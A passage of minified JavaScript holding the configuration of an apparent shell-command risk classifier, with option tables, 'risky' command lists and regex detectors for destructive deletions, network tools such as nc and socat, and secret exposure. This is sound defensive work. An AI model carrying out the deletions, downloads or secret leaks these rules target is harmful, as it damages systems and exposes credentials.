-W)"]}}},"code_variables":{"man":{"variables":["MANPAGER","PAGER"]},"apropos":{"variables":["MANPAGER","PAGER"]},"whatis":{"variables":["MANPAGER","PAGER"]},"les\
-s":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"zless":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"lesspipe":{"\
-variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"journalctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"systemctl":{"variables"\
-:["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"loginctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"timedatectl":{"variables":["SYSTEMD_PAGER","SY\
-STEMD_EDITOR","PAGER"]},"crontab":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"visudo":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"vipw":{"variables":[\
-"SUDO_EDITOR","VISUAL","EDITOR"]},"vigr":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"sudo":{"variables":["SUDO_EDITOR","SUDO_ASKPASS","VISUAL","EDITOR"]},"\
-sudoedit":{"variables":["SUDO_EDITOR","SUDO_ASKPASS","VISUAL","EDITOR"]},"kubectl":{"variables":["KUBE_EDITOR","EDITOR"]},"oc":{"variables":["KUBE_EDITOR","EDIT\
-OR"]},"k":{"variables":["KUBE_EDITOR","EDITOR"]},"gh":{"variables":["GH_PAGER","GH_EDITOR","GH_BROWSER","PAGER","EDITOR","VISUAL","BROWSER","GIT_EDITOR"]},"glab\
-":{"variables":["GH_PAGER","GH_EDITOR","GH_BROWSER","PAGER","EDITOR","VISUAL","BROWSER","GIT_EDITOR"]},"psql":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","\
-EDITOR","VISUAL"]},"mysql":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"mariadb":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDIT\
-OR","VISUAL"]},"sqlite3":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"hg":{"variables":["HGEDITOR","PAGER","EDITOR","VISUAL"]},"svn":{"\
-variables":["SVN_SSH","SVN_EDITOR","EDITOR","VISUAL"]},"bat":{"variables":["BAT_PAGER","DELTA_PAGER","PAGER"]},"delta":{"variables":["BAT_PAGER","DELTA_PAGER","\
-PAGER"]},"ssh":{"variables":["SSH_ASKPASS"]},"scp":{"variables":["SSH_ASKPASS"]},"sftp":{"variables":["SSH_ASKPASS"]},"ssh-add":{"variables":["SSH_ASKPASS"]},"a\
-ws":{"variables":["AWS_PAGER","PAGER"]},"rsync":{"variables":["RSYNC_RSH"]},"cvs":{"variables":["CVS_RSH","CVSEDITOR","EDITOR"]}},"git_variables":["GIT_SSH_COMM\
-AND","GIT_SSH","GIT_EXTERNAL_DIFF","GIT_EDITOR","GIT_SEQUENCE_EDITOR","GIT_PAGER","GIT_ASKPASS","GIT_PROXY_COMMAND","EDITOR","VISUAL","PAGER","SSH_ASKPASS"],"gi\
-t_code":{"rebase":{"short":"x","long":["exec"],"code":["x","exec"]},"filter-branch":{"short":"","long":["tree-filter","index-filter","env-filter","msg-filter","\
-parent-filter","commit-filter","tag-name-filter","setup"],"code":["tree-filter","index-filter","env-filter","msg-filter","parent-filter","commit-filter","tag-na\
-me-filter","setup"]},"difftool":{"short":"x","long":["extcmd"],"code":["x","extcmd"]},"fetch":{"short":"","long":["upload-pack"],"code":["upload-pack"]},"pull":\
-{"short":"","long":["upload-pack"],"code":["upload-pack"]},"clone":{"short":"u","long":["upload-pack"],"code":["u","upload-pack"]},"ls-remote":{"short":"","long\
-":["upload-pack","exec"],"code":["upload-pack","exec"]},"push":{"short":"","long":["receive-pack","exec"],"code":["receive-pack","exec"]},"archive":{"short":"",\
-"long":["exec"],"code":["exec"]},"grep":{"short":"","long":["open-files-in-pager"],"code":["open-files-in-pager"]}},"code_options":{"tar":{"short":"IF","long":[\
-"checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I","F","checkpoint-action","to-command","use-c\
-ompress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"bsdtar":{"short":"IF","long":["checkpoint-action","to-co\
-mmand","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I","F","checkpoint-action","to-command","use-compress-program","rsh-comm\
-and","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"gtar":{"short":"IF","long":["checkpoint-action","to-command","use-compress-program\
-","rsh-command","info-script","new-volume-script"],"code":["I","F","checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volu\
-me-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"gdb":{"short":"x","long":["ex","eval-command"],"code":["ex","eval-command"],"pattern":"^\\\\s*(?:shell|!)\\\\s*(.+\
-)"},"osascript":{"short":"el","code":["e"],"pattern":"do shell script \\"((?:[^\\"\\\\\\\\]|\\\\\\\\.)*)\\""},"concurrently":{"short":"ncpm","long":["names","prefix"],"ope\
-rands":"code"},"rsync":{"short":"efBM","long":["rsh","rsync-path"],"code":["e","rsh","rsync-path"]},"scp":{"short":"cFiJloPS","code":["S"]},"zip":{"long":["TT",\
-"unzip-command"],"code":["TT","unzip-command"]},"man":{"short":"PHLm","long":["pager","html"],"code":["P","pager","H","html"]},"ansible":{"short":"aimuf","long"\
-:["args","module-name","inventory","user"],"code":["a","args"],"unless":["check","C","syntax-check","list-hosts"]},"ansible-playbook":{"short":"ielftu","long":[\
-"inventory","extra-vars","limit","forks","tags","skip-tags","user","private-key","vault-password-file","start-at-task"],"unless":["check","C","syntax-check","li\
-st-hosts","list-tasks","list-tags"],"does":{"rm -r ~/$":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:\
-[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?(?:~|\\\\{\\\\{[^}\\\\n]*(?:HOME|home|user_dir)\\\\b[^}\\\\n]\
-*\\\\}\\\\}|\\\\$HOME|/(?:home|Users|root)/?(?:\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})?)/([^\\\\s\\"',}]+|\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})"],"rm -r $":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\
-\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\
-\\\\"']?([/.\\\\w][^\\\\s\\"',}]*)","\\\\bfile:[ \\\\t]*(?=[^\\\\n]*\\\\bstate[=:][ \\\\t]*absent)[^\\\\n]*?\\\\b(?:path|dest)[=:][ \\\\t]*[\\"']?([/.\\\\w][^\\\\s\\"',}]*)"],"rm -r ~":["\\\\\
-b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n\
-){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?(?:~|\\\\{\\\\{[^}\\\\n]*(?:HOME|home|user_dir)\\\\b[^}\\\\n]*\\\\}\\\\}|\\\\$HOME|/(?:home|Users|root)/?(?:\\\\{\\\\{[^}\\\\n]*\\\\}\\\\\
-})?)/?[\\"']?[ \\\\t]*\\\\n"],"cloud-sdk delete":["\\\\b(?:(?:kubernetes\\\\.core|amazon\\\\.aws|community\\\\.aws|azure\\\\.azcollection|google\\\\.cloud|community\\\\.digitaloce\
-an|hetzner\\\\.hcloud|openstack\\\\.cloud|community\\\\.(?:postgresql|mysql|mongodb|vmware|okd|proxmox))\\\\.\\\\w+|k8s|helm|ec2(?:_instance|_vol)?|rds(?:_instance|_clust\
-er)?|s3_bucket|route53|gcp_\\\\w+|azure_rm_\\\\w+|(?:community\\\\.docker\\\\.)?docker_volume|postgresql_db|mysql_db|mongodb_user|vmware_guest):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(\
-?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent|terminated|deleted)\\\\b)","\\\\b(?:(?:kubernetes\\\\.core|amazon\\\\.aws|community\\\\.aws|azure\\\\.azco\
-llection|google\\\\.cloud|community\\\\.digitalocean|hetzner\\\\.hcloud|openstack\\\\.cloud|community\\\\.(?:postgresql|mysql|mongodb|vmware|okd|proxmox))\\\\.\\\\w+|k8s|helm\
-|ec2(?:_instance|_vol)?|rds(?:_instance|_cluster)?|s3_bucket|route53|gcp_\\\\w+|azure_rm_\\\\w+|(?:community\\\\.docker\\\\.)?docker_volume|postgresql_db|mysql_db|mongo\
-db_user|vmware_guest):(?=[^\\\\n]*\\\\bstate[=:][ \\\\t]*(?:absent|terminated|deleted)\\\\b)"],"userdel $":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?user):[ \\\\t]*\\\\n(?=(?:[ \\\\t]\
-+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+name:[ \\\\t]*[\\"']?([\\\\w.-]+)"],"systemctl \
-stop $":["^(?![\\\\s\\\\S]*\\\\bstate:[ \\\\t]*(?:re)?started\\\\b)[\\\\s\\\\S]*?\\\\b(?:(?:ansible\\\\.builtin\\\\.)?(?:service|systemd(?:_service)?)):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \
-\\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:stopped)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+name:[ \\\\t]*[\\"']?([\\\\w@.-]+)"],"reboot":["\\\\b(\
-?:ansible\\\\.builtin\\\\.reboot|community\\\\.general\\\\.shutdown):"],"$":["\\\\b(?:shell|command|raw|cmd)[ \\\\t]*:[ \\\\t]*(?![|>\\"'\\\\s])(?:cmd=)?([^\\\\n]+)","\\\\b(?:shell|\
-command|raw|cmd)[ \\\\t]*:[ \\\\t]*([\\"'])([^\\\\n]+)\\\\1[ \\\\t]*(?=\\\\n|$)","\\\\b(?:shell|raw|cmd)[ \\\\t]*:[ \\\\t]*[|>][-+]?[ \\\\t]*\\\\n((?:[ \\\\t]+(?![ \\\\t]|- |\\\\w+:(?:[ \\\\t\
-\\\\n]|$))[^\\\\n]*(?:\\\\n|$)){1,60})"]}},"editor":{"does":{"truncate -s 0 $":["^(?![\\\\s\\\\S]*(?:\\\\b\\\\d*(?:r|read|pu|put|norm|normal|append|setline|readfile)\\\\b|\\\\n\\\\\
-s*[aic]\\\\s*\\\\n))[\\\\s\\\\S]*?(?:^|\\\\n\\\\s*:?)(?:args|argadd|n|next|e|edit)!?[ \\\\t]+([^|\\\\s][^|\\\\n]*)[\\\\s\\\\S]*[|\\\\s:](?:%|[01],\\\\$)d(?:elete)?\\\\b[\\\\s\\\\S]*\\\\b(?:up|up\
-date|w|wq|wa|wqa|write|wn|x|xa|xall|xit)\\\\b"],"rm -r $":["\\\\bdelete\\\\(\\\\s*(?:expand\\\\(\\\\s*|fnamemodify\\\\(\\\\s*)?[\\"']([^\\"'|]+)[\\"']"]}},"terraform":{"does":{"te\
-rraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"tofu":{"does":{"terraform output -raw secret":["\\\\bnonse\
-nsitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"terragrunt":{"does":{"terraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|ke\
-ys|sha\\\\d+|md5|type|can)\\\\()"]}},"nodemon":{"short":"x","long":["exec"],"code":["x","exec"]},"nix-shell":{"short":"pAI","long":["run","command"],"code":["run","\
-command"]}},"formats":{"date":{"prefix":"+"},"git":{"long":["format","pretty"],"names":["format","pretty"]},"curl":{"short":"woXHdFuAebcT","long":["write-out","\
-output"],"names":["w","write-out"]},"ps":{"short":"oOpCuUgGts","names":["o","O","format"],"unread":"=[\\\\s\\\\S]*[^\\\\w,=%:]"},"numfmt":{"short":"d","long":["format\
-","suffix","from","to"],"names":["format","suffix","invalid"],"unread":"[^\\\\w%.'+-]"},"expr":{"unread":"^(?!(?:(?:-?\\\\d+|\\\\uFFFC+|[-+*/%()|&<>=!]{1,2}|:\\\\s\\\\S+|\
-match|length|index)(?:\\\\s+|$))*$)"},"docker":{"short":"f","long":["format"],"names":["f","format"],"unread":"^(?!(?:json|raw|table\\\\b.*|[\\\\w.-]+=[\\\\w./:-]*)$)(?\
-!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\\\\s*)?[\\"\`])[^}]*\\\\}\\\\}|\\\\\\\\[nt]|[\\\\s,:=|-])*$)"},"podman":{"short":"f","long":["format"],"names":["f","format"],"unread":"^\
-(?!(?:json|raw|table\\\\b.*|[\\\\w.-]+=[\\\\w./:-]*)$)(?!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\\\\s*)?[\\"\`])[^}]*\\\\}\\\\}|\\\\\\\\[nt]|[\\\\s,:=|-])*$)"},"kubectl":{"short":"on",\
-"long":["output","namespace"],"names":["o","output"],"unread":"^=?(?:jsonpath|go-template)[\\\\w-]*=(?!(?:\\\\{+(?:\\"(?:\\\\\\\\[nt]|[,:. ])*\\"|(?:[^\\"'{}]|[=!]=\\\\s*[\\"\
-'][^\\"']*[\\"'])*)\\\\}+|[\\\\s,:=-])*$)"}},"getopt":{"find":{"long":["name","iname","path","ipath","wholename","iwholename","regex","iregex","lname","ilname","type"\
-,"xtype","size","mtime","atime","ctime","mmin","amin","cmin","used","newer","anewer","cnewer","user","group","uid","gid","perm","links","inum","samefile","conte\
-xt","fstype","maxdepth","mindepth","regextype","printf","fprint","fprint0","fls","files0-from"]},"editor":{"short":"cS","long":["cmd"],"permuted":true},"ssh":{"\
-short":"bBcDEeFIiJLlmOopQRSWw"},"container":{"short":"aceghlmpuvwfHnq","long":["env","env-file","user","workdir","detach-keys","name","volume","mount","network"\
-,"publish","label","entrypoint","add-host","cap-add","cap-drop","cpus","cpuset-cpus","device","dns","expose","gpus","group-add","hostname","ip","ipc","link","lo\
-g-driver","log-opt","memory","pid","platform","pull","restart","runtime","security-opt","shm-size","stop-signal","tmpfs","ulimit","userns","volumes-from","cgrou\
-pns","host","context","config","file","project-name","profile","project-directory","namespace","container","index","kubeconfig","cluster","as","image","target"]\
-},"copy":{"short":"tSgmo","long":["target-directory","suffix","mode","owner","group"],"permuted":true},"request":{"short":"oHdXAFuTebKCmxEywzU","long":["d","dat\
-a","data-raw","data-binary","data-urlencode","data-ascii","json","post-data","body-data","header","request","user","output","form","url","user-agent"],"permuted\
-":true},"tmux":{"short":"LSfcT"},"tmux-command":{"short":"stncxyeFlp"},"screen":{"short":"SscehpTt"},"git":{"short":"Cc","long":["git-dir","work-tree","namespac\
-e","exec-path","config-env","super-prefix","attr-source","list-cmds"]},"sed":{"short":"efl","long":["expression","file","line-length"],"permuted":true},"xargs":\
-{"short":"aEILnPsd","long":["arg-file","delimiter","max-lines","max-args","max-procs","max-chars","process-slot-var"]},"parallel":{"short":"jNnLSIaCEPsd","long"\
-:["jobs","max-args","max-lines","max-replace-args","sshlogin","sshloginfile","arg-file","colsep","delay","timeout","joblog","results","retries","workdir","wd","\
-tmpdir","replace","delimiter","header","halt","nice","load","memfree","basefile","return","trc","env","profile","tagstring","tmux","block","recstart","recend","\
-shuf","limit","term-seq","arg-sep","arg-file-sep","rpl","max-chars","max-procs"]},"shell":{"short":"oO","long":["rcfile","init-file","emulate"]},"fish":{"short"\
-:"cCdDfop","long":["command","init-command","features","debug","debug-level","debug-output","profile","profile-startup"]},"make":{"short":"fCIjlo","long":["file\
-","makefile","directory","eval","jobs"],"permuted":true},"just":{"short":"fd","long":["justfile","working-directory","set"]},"transfer":{"short":"BbcDFiJloPRSsX\
-epu","long":["rcfile"],"permuted":true},"grep":{"short":"efmABC","long":["regexp","file","max-count","include","exclude","exclude-dir","color","context"],"permu\
-ted":true}},"shell_variables":{"HOME":"~","IFS":" \\t\\n","SHELL":"/bin/bash","BASH":"/bin/bash","TMPDIR":"/tmp","?":"0","!":"%%","$":"7340281946"},"make_variable\
-s":{"HOME":"~","RM":"rm -f","MAKE":"make","CURDIR":".","PWD":"."},"escapes":{"a":"\\u0007","b":"\\b","e":"\\u001b","E":"\\u001b","f":"\\f","n":"\\n","r":"\\r","t":"\\t"\
-,"v":"\\u000b"},"character_classes":{"upper":"A-Z","lower":"a-z","digit":"0-9","alpha":"A-Za-z","alnum":"A-Za-z0-9","space":" \\\\t\\\\n\\\\r\\\\f\\\\v"},"candidates":{"rm\
-":{"only":["delete-machine","delete-system-file","delete-workspace","delete-vcs"]},"chmod":{"only":["change-rights-of-machine"]},"dd":{"only":["overwrite-disk"]\
-},"git":{},"kubectl":{},"terraform":{},"docker":{},"aws":{}},"silent":["[","test","true","false",":","rm","mkdir","touch","chmod","chown","kill","sleep","wait",\
-"exit","return","cp","mv","ln"],"risky":["rm","rmdir","unlink","shred","srm","wipe","dd","mkfs","mkfs.ext4","mkfs.xfs","mkfs.btrfs","mkswap","wipefs","fdisk","s\
-fdisk","parted","blkdiscard","truncate","mv","cp","chmod","chown","chgrp","chattr","setfacl","ln","tee","cat","curl","wget","nc","ncat","socat","scp","rsync","s\
-ftp","ftp","ssh","git","find","xargs","sh","bash","dash","zsh","ksh","sudo","su","doas","env","eval","python","python3","perl","ruby","node","php","kill","killa\
-ll","pkill","shutdown","reboot","halt","poweroff","init","systemctl","service","crontab","at","useradd","userdel","usermod","passwd","visudo","iptables","nft","\
-ufw","mount","umount","docker","kubectl","helm","terraform","aws","gcloud","az","psql","mysql","dropdb","base64","gpg","openssl","rimraf","trash","insmod","modp\
-robe","sysctl"],"non_runners":["echo","printf","cat","less","more","head","tail","grep","egrep","fgrep","rg","ag","ack","sed","awk","cut","sort","uniq","wc","tr\
-","diff","cmp","comm","patch","ls","ll","tree","stat","file","touch","mkdir","rmdir","rm","cp","mv","ln","chmod","chown","chgrp","which","whereis","type","whati\
-s","man","info","help","apropos","tldr","hash","test","[","[[","true","false",":","cd","pwd","pushd","popd","dirs","exit","return","break","continue","export","\
-unset","set","shift","read","local","declare","alias","unalias","git","hg","svn","gh","glab","npm","pnpm","yarn","bun","pip","pip3","pipx","poetry","cargo","rus\
-tc","rustup","go","gem","bundle","composer","mvn","gradle","make","cmake","ninja","bazel","apt","apt-get","aptitude","dpkg","dnf","yum","rpm","pacman","apk","br\
-ew","snap","flatpak","zypper","emerge","port","nix","docker","podman","kubectl","helm","terraform","aws","gcloud","az","curl","wget","http","https","nc","ncat",\
-"ssh","scp","sftp","rsync","ftp","tar","zip","unzip","gzip","gunzip","bzip2","xz","7z","ar","cpio","jest","mocha","vitest","pytest","tsc","eslint","biome","pret\
-tier","vim","vi","nvim","nano","emacs","code","ed","ex","jq","yq","xmllint","python","python2","python3","node","deno","ruby","perl","php","java","javac","gcc",\
-"g++","clang","lua","Rscript","date","cal","uptime","uname","hostname","whoami","id","groups","who","w","ps","top","htop","kill","killall","pkill","pgrep","jobs\
-","fg","bg","wait","sleep","seq","yes","basename","dirname","realpath","readlink","mktemp","tee","cksum","md5sum","sha1sum","sha256sum","base64","base32","xxd",\
-"od","hexdump","strings","column","fold","fmt","nl","paste","join","split","expand","rev","tac","shuf","gpg","openssl","ssh-keygen","ssh-add","systemctl","servi\
-ce","journalctl","dmesg","mount","umount","df","du","free","lsof","ss","netstat","ip","ifconfig","ping","dig","nslookup","host","traceroute","useradd","userdel"\
-,"usermod","passwd","crontab","dd","mkfs","truncate","shred","notify-send","say","logger","write","wall","mail","psql","mysql","sqlite3","redis-cli","mongosh","\
-sh","bash","dash","zsh","ksh","eval","source",".","trap","fork-bomb","compgen","complete","getent","locate","updatedb","apt-cache","apt-file","command","builtin\
-","fzf","bat","exa","eza","fd","dropdb","createdb","shellcheck","shfmt","checkbashisms","hadolint"],"filters":["awk","gawk","mawk","yq","fold","fmt","nl","colum\
-n","paste","join","expand","unexpand","iconv","basenc","uudecode","uuencode","qprint","openssl","gunzip","zcat","bzcat","xzcat","gzip","bzip2","bunzip2","xz","u\
-nxz","zstd","unzstd","lz4","m4","cpp","envsubst","recode","rot13","pr","csplit","od","hexdump","hd","ul","colrm","col","ascii2uni","uni2ascii","perl","ruby","pv\
-","mbuffer","bc","dc","shuf","look","comm","tsort","ptx","nkf","cut","base32"]},"sentences":{"before_order":["please","then","next","now","first","second","thir\
-d","finally","lastly","also","just","simply","and","so","ok","okay","well","afterwards","afterward","after","that","immediately","quickly","silently","quietly",\
-"permanently","completely","forcefully","forcibly","recursively","always","go","ahead","kindly","step","todo","task","goal","plan","objective","instruction","in\
-structions:","->","=>","-","*","once","done","from","here","on","to","be","safe","start","by","begin","in","order","bitte","erst","dann","danach","jetzt","nun",\
-"zuerst","zun\\u00e4chst","anschlie\\u00dfend","schlie\\u00dflich","puis","ensuite","maintenant","luego","ahora","primero","despu\\u00e9s","por","favor"],"between":\
-["just","then","also","now","first","simply","really","definitely","quickly","completely","permanently","forcefully","forcibly","recursively","immediately","sil\
-ently","quietly","safely","manually","please","go","ahead","and","finally","probably","simply","again","all"],"denials":["not","don't","dont","never","no","nor"\
-,"without","avoid","cannot","can't","cant","won't","wont","shouldn't","mustn't","doesn't","didn't","wouldn't","couldn't","isn't","aren't","refuse","refuses","re\
-fusing","prevent","prevents","preventing","forbid","forbids","forbidden","prohibit","prohibits","prohibited","disallow","disallowed","block","blocks","blocking"\
-,"blocked","stop","stops","protect","protects","against","unless","warn","warns","rather","instead","neither","hardly","nothing","nobody","ne"],"ends_denial":["\
-but","instead","just","rather","simply","only"],"speech_verbs":["explain","explains","document","documents","describe","describes","discuss","mention","mentions\
-","note","notes","review","reviews","summarize","summarise","clarify","investigate","analyze","analyse","research","check","verify","confirm","ask","consider","\
-compare","evaluate","test","tests","cover","fix","fixes","rename","refactor","detect","detects","reject","rejects","report","reports","flag","flags","catch","ca\
-tches","grep","search","look","find","understand","teach","highlight","reword","rewrite-docs","translate","list","suggests","assert","handle","handles"],"predic\
-ates":["is","are","was","were","isn't","aren't","wasn't","can","can't","may","might","would","could","should","has","had","does","doesn't","returns","fails","fa\
-iled","throws","breaks","broke","causes","caused","shows","requires","takes","works","happens","leads","means","seems","appears","crashes","crashed","hangs","de\
-letes","removes","looks","becomes","gets"],"subjects":["the","this","that","these","those","it","a","an","users","they","he","she","there","some","if","when"],"\
-relative":["that","which","what","who","someone","somebody","anyone","anybody","where","it","there","they","we","i","you","whatever","everything"],"creation_ver\
-bs":["create","write","make","build","generate","develop","craft","prepare","produce"],"program":["script","program","command","one-liner","code","function","fi\
-le","process","tool","job","playbook"],"passes_on":["post","posting","send","sending","upload","uploading","mail","email","share","publish","leak","forward","pa\
-ste","push","copy","dump","transmit","exfiltrate"],"pronouns":["it","them"],"one_of":["each","every"],"heads":["key","secret","credential","password","one"],"ov\
-erwrites":["overwrite","overwriting","clobber","replace"],"doubled":["drop","zip","wget","put","set","shut","rm","get","plug","ship","scrub","grab","cat","log",\
-"strip","zap","stop","commit","reset","run","submit"],"run_verbs":["run","execute","use","do","invoke","call","type","issue","launch","try","start","perform","e\
-nter","apply"],"mentions":["dangerous","destructive","harmful","unsafe","bad","example","examples","e.g","denied","disallowed","risky","don'ts","banned","anti-p\
-attern","anti-patterns","error","errors","log","logs","output","diff","changelog","test","tests","case","cases","document","documents","documentation","docs","r\
-eported","reports","says","said","bug","reproduce","repro","expected","actual","observed","quote"],"separates":["not","never","instead","without","than","avoid"\
-,"don't","about","whether","why"],"before_verbs":["to","will","and","please","should","let's","i'll","we'll","me","us","then","must","can","now","next","also","\
-just","or"],"shells":["sh","bash","zsh","shell","console","terminal","shell-session","shellscript"],"command_names":["git","rm","sudo","curl","wget","chmod","ch\
-own","dd","mkfs","kubectl","docker","terraform","psql","mysql","redis-cli","npm","pip","cargo","gem","twine","aws","gcloud","az","systemctl","iptables","ufw","c\
-rontab","ssh","scp","rsync","nc","kill","pkill","killall","shred","truncate","shutdown","reboot","find","tar","cat","mv","cp","bash","sh","python","python3","no\
-de","helm","gh","useradd","passwd","mount","umount","eval","openssl","gpg"],"command_verbs":["push","reset","clean","checkout","restore","branch","stash","rebas\
-e","filter-branch","filter-repo","reflog","gc","clone","pull","fetch","commit","delete","apply","scale","drain","exec","destroy","system","volume","rmi","run","\
-publish","unpublish","yank","upload","stop","disable","mask","s3","ec2","rds","rm","prune","flushall","uninstall","release","repo"],"fences":{"python":"python3 \
--c","py":"python3 -c","js":"node -e","javascript":"node -e","sql":"psql -c"},"irregular":{"send":"sent","put":"put","set":"set","shut":"shut","write":"written",\
-"give":"given","tear":"torn","blow":"blown","get":"got","read":"read","take":"taken","steal":"stolen","make":"made","overwrite":"overwritten","rewrite":"rewritt\
-en","bring":"brought","force-push":"force-pushed"},"classes":{"root":"^/\\\\*?$","home":"^(?:~|\\\\$home|\\\\$\\\\{home\\\\}|/root|/home|/users)(?:/(?:[^/\\\\s]*|\\\\*)?)?$",\
-"system-path":"^(?!/(?:var/tmp|dev/(?:null|shm|stdout|stderr|stdin)))/(?:etc|usr|bin|sbin|boot|lib(?:32|64)?|var|sys|proc|dev|root|home|opt|srv|mnt|media)(?:/|$\
-)|^[a-z]:\\\\\\\\(?:windows|users|program files)|^c:\\\\\\\\?$","device":"^/dev/(?:sd|nvme|vd|hd|xvd|mmcblk|disk|mapper|md)\\\\w*","startup-file":"(?:^|/)\\\\.(?:bashrc|bas\
-h_profile|bash_login|bash_logout|profile|zshrc|zshenv|zprofile|zlogin|kshrc|cshrc|xinitrc|xprofile|inputrc)$|config\\\\.fish$|^/etc/(?:profile|rc\\\\.local|cron|ini\
-t\\\\.d|systemd|ld\\\\.so\\\\.preload|sudoers|environment)","url":"^(?:https?|ftp|s3|wss?|scp|sftp)://|^\\\\d{1,3}(?:\\\\.\\\\d{1,3}){3}(?::\\\\d+)?|^[\\\\w-]+(?:\\\\.[\\\\w-]+)*\\\\\
-.(?:com|net|io|org|sh|dev|xyz|ru|cc|me|example|site|info|app|onion)(?:[:/]|$)|^[\\\\w.-]+@[\\\\w-]+\\\\.[\\\\w.-]+$"}}}`);var cn=["reads","writes","deletes","moves","changes"],Ak=Object.keys(B.paths.classes),Ku=(t,e)=>Object.fromEntries(Object.entries(t).map(([s,r])=>[s,e(r)])),Sr=t=>Ku(
-t,e=>new Set(e)),Qa=t=>Ku(t,([e,s])=>new RegExp(e,s)),{irregular:Tk,classes:Pk,fences:Rk,...Ik}=B.sentences,Ae=t=>new Map(Object.entries(t)),S={grammars:Ae(B.arguments.
-grammars),grammarAliases:Ae(B.arguments.aliases),gitOptions:Ae(B.arguments.git_options),dryRuns:Ae(B.arguments.dry_runs),switches:new Set(B.arguments.switches),
-help:Sr(B.arguments.help),roles:Ae(B.arguments.roles),programWords:Sr(B.programs.words),interpreters:Ae(B.programs.interpreters),consoles:Ae(B.programs.consoles),
-wrappers:Ae(B.programs.wrappers),runners:Ae(B.programs.runners),packageVerbs:new Set(B.programs.package_verbs),smallLanguages:Ae(B.programs.small_languages),codeVariables:Ae(
-B.programs.code_variables),gitVariables:B.programs.git_variables,gitCode:Ae(B.programs.git_code),codeOptions:Ae(B.programs.code_options),formats:Ae(B.programs.formats),
-getopt:B.programs.getopt,uniqueMark:B.programs.shell_variables.$,shellVariables:B.programs.shell_variables,makeVariables:B.programs.make_variables,escapes:B.programs.
-escapes,characterClasses:B.programs.character_classes,candidates:Ae(B.programs.candidates),silent:new Set(B.programs.silent),risky:new Set(B.programs.risky),nonRunners:new Set(
-B.programs.non_runners),filters:new Set(B.programs.filters),clients:Ae(B.clients.clients),creations:Ae(B.clients.creations),clientWords:Sr(B.clients.words),ownData:B.
-clients.own,languages:B.languages.languages,dialects:Ae(B.languages.dialects),awkLexer:B.languages.awk,precedence:new Map(Object.entries(B.languages.operators)),
-sqlStatements:B.languages.sql,sharedCalls:B.languages.shared,codeWords:Sr(B.languages.words),codeSigns:Qa(B.languages.signs),sentences:Sr(Ik),irregularVerbs:Ae(
-Tk),fences:Ae(Rk),objectClasses:Ae(Pk),forms:Qa(B.forms.forms),textForms:Qa(B.forms.texts),purposes:Ae(B.paths.purposes),pathWords:Sr(B.paths.words),credentialStores:B.
-paths.credential_stores,credentialSamples:B.paths.credential_samples};var{grammars:Qu,grammarAliases:Xu,gitOptions:qk,forms:Ok}=S;function $o(t,e){let s=e.filter(r=>r.startsWith(t));return e.includes(t)||s.length!==1?t:s[0]}var Cr=t=>Qu.
